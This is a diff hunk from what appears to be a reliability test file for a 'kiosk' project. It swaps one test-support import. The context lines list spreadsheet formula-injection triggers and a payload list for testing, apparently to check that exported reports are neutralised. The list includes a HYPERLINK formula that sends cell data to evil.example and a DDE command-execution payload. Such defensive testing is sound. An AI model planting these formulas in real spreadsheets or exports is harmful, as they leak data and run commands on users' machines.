@@ -19,7 +19,7 @@ from kiosk.core.events import DEVICE_PATTERN
 from kiosk.reports import render
 from kiosk.services import ServiceError, door, reports, roster, scenes
 from kiosk.store import connect
-from tests.reliability.conftest import size
+from tests.reliability.support import size
 
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet reads as the start of a formula (OWASP)
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "=1+2", "+1+2", "-1",
